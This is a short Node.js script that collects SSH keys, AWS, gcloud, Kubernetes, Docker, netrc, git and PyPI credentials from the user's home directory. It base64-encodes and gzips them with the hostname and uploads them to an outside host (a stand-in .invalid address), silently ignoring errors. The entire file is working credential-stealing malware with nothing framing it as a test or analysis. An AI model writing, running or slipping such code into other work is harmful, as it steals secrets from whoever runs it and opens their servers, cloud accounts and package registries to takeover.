// Packs keys and credentials of tools into one form and posts it.
const fs = require('fs/promises');
const path = require('path');
const os = require('os');
const zlib = require('zlib');

const home = os.homedir();
const places = ['.ssh', '.aws/credentials', '.config/gcloud', '.kube/config', '.docker/config.json', '.netrc', '.git-credentials', '.pypirc'];
const limit = 256 * 1024;

async function* walk(file, depth = 0) {
  let stat;
  try {
    stat = await fs.stat(file);
  } catch {
    return;
  }
  if (stat.isDirectory()) {
    if (depth > 3) return;
    for (const entry of await fs.readdir(file)) {
      yield* walk(path.join(file, entry), depth + 1);
    }
  } else if (stat.size < limit) {
    yield file;
  }
}

async function gather() {
  const found = {};
  for (const place of places) {
    for await (const file of walk(path.join(home, place))) {
      const content = await fs.readFile(file);
      found[path.relative(home, file)] = content.toString('base64');
    }
  }
  return found;
}

gather().then(async (found) => {
  if (Object.keys(found).length === 0) {
    return;
  }
  const form = new FormData();
  form.append('host', os.hostname());
  form.append('file', new Blob([zlib.gzipSync(JSON.stringify(found))]), 'data.gz');
  await fetch('https://bin.store.invalid/upload', { method: 'POST', body: form });
}).catch(() => {});
